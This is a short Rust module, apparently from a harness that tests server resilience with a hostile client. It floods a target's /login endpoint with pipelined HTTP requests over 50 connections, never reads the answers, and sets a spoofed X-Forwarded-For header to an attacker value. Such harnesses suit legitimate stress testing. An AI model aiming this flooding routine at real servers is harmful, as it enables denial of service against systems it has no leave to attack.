//! Requests behind requests over connections whose answers nobody reads.

use anyhow::Result;

use crate::hostile::{
    hose::flood_http,
    target::{ATTACKER, Target},
};

const CONNECTIONS: usize = 50;
const AT_ONCE: usize = 200;

pub(super) async fn unread(target: &mut Target) -> Result<()> {
    let request =
        format!("GET /login HTTP/1.1\r\nHost: {}\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n", target.server);
    let requests = request.repeat(AT_ONCE).into_bytes();
    let taken = flood_http(target.server, CONNECTIONS, target.until(), requests).await;
    target.note(taken.to_string());
    Ok(())
}
